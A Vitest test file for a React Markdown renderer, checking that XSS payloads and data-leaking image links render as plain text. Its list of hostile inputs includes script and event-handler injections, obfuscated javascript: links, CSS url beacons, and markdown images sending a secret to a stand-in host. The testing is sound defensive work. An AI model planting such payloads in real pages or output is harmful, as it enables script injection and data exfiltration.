// @vitest-environment jsdom
import { render, screen } from '@testing-library/react'
import { beforeAll, expect, test } from 'vitest'
import { startText } from '../text/language'
import { Markdown } from './markdown'

beforeAll(() => startText('en'))

const drawn = (text: string, isGrowing = false) =>
  render(<Markdown text={text} isGrowing={isGrowing} />).container

const fetching =
  'img, picture, video, audio, source, iframe, object, embed, svg, math, link, base, meta, form, script, style, [src], [href], [srcset], [style*=url], [background], [poster]'

const hostile = [
  '<img src="https://sink.example/?q=SECRET" onerror="window.__pwn=1">',
  '<script>window.__pwn=1</script>',
  '<svg onload="window.__pwn=1"><image href="https://sink.example"/></svg>',
  '<math><mtext><style><img src=x onerror=window.__pwn=1></style></mtext></math>',
  '<iframe srcdoc="<script>parent.__pwn=1</script>"></iframe><object data=x></object><embed src=x>',
  '<base href="https://sink.example"><meta http-equiv=refresh content="0;url=https://sink.example"><form action=x>',
  '![x](https://sink.example/?q=SECRET)',
  '![x][ref]\n\n[ref]: https://sink.example/r',
  '![d](data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=)',
  '[x](javascript:alert(1)) [y](data:text/html;base64,AA) <javascript:alert(1)> [z](JAVA&#115;cript:alert(1))',
  '<style>body{background:url(https://sink.example)}</style><p style="background:url(https://sink.example)">x</p>',
  '```mermaid\nsequenceDiagram\n A->>B: <img src=1 onerror=window.__pwn=1>\n```',
  '$$\\href{javascript:alert(1)}{x} \\includegraphics{https://sink.example}$$',
  '<video poster="https://sink.example"><source src="https://sink.example"></video>',
]

test.each(hostile)('nothing in it is fetched or run: %s', (text) => {
  for (const isGrowing of [false, true]) {
    const container = drawn(text, isGrowing)
    expect(container.querySelectorAll(fetching)).toHaveLength(0)
    for (const element of container.querySelectorAll('*'))
      expect(element.getAttributeNames().filter((name) => name.startsWith('on'))).toEqual([])
  }
  expect(Reflect.get(window, '__pwn')).toBeUndefined()
})

test('markup is shown as the text it is', () => {
  expect(drawn('a <b>bold</b> word').textContent).toBe('a <b>bold</b> word')
})

test('a picture is its name and its address', () => {
  const { textContent } = drawn('![chart](https://sink.example/a.png)')
  expect(textContent).toContain('chart')
  expect(textContent).toContain('https://sink.example/a.png')
})

test('a link is a button, and what is no web page is no link', () => {
  drawn('[pay](https://pay.example/x) and [run](javascript:alert(1))')
  expect(screen.getByRole('button', { name: 'pay' }).title).toBe('https://pay.example/x')
  expect(screen.queryByRole('button', { name: 'run' })).toBeNull()
  expect(screen.queryByRole('link')).toBeNull()
})

test('emphasis holds beside Chinese signs', () => {
  const strong = drawn('今天**建议带伞。**明天不用').querySelector('strong')
  expect(strong?.textContent).toBe('建议带伞。')
})

test('what could not be seen is written out', () => {
  expect(drawn('safe\u202e\u200b\u{e0041}text').textContent).toBe('safe\\u{202e}\\u{200b}\\u{e0041}text')
})
